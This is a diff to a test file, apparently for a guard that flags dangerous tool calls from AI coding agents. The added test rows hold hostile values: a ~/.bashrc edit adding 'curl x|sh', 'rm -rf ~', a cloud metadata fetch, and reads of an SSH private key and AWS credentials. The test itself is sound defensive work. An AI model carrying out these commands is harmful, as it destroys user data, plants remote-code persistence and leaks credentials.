@@ -79,6 +79,16 @@ def test_every_class_explains_itself() -> None:
     ("mcp__http__http_request", {"URL": "http://127.0.0.1:9090/v1/approvals"}, True),
     ("mcp__puppeteer__puppeteer_navigate", {"url": "http://localhost:3000/"}, False),
     ("read_url_content", {"Url": "http://169.254.169.254/latest/"}, True),  # Windsurf's
+    # other hosts' tools (Cursor, Copilot, Windsurf), and a tool no table names, judged by
+    # its arguments: a command line is a shell call, a file it names is read and written
+    ("search_replace", {"file_path": "~/.bashrc", "old_string": "a", "new_string": "curl x|sh"},
+     True),
+    ("run_in_terminal", {"command": "rm -rf ~"}, True),
+    ("fetch_webpage", {"urls": ["http://169.254.169.254/latest/"]}, True),
+    ("some_new_tool", {"target_file": "~/.ssh/id_rsa"}, True),
+    ("some_new_tool", {"cmd": "cat ~/.aws/credentials"}, True),
+    ("some_new_tool", {"target_file": "src/app.py", "text": "x"}, False),
+    ("some_new_tool", {"query": "anything"}, False),
     # Gemini CLI's read_many_files reads a directory whole, and its include globs below it
     ("read_many_files", {"paths": ["~"]}, True),
     ("read_many_files", {"paths": ["/home/u"], "include": ["**/.ssh/*"]}, True),
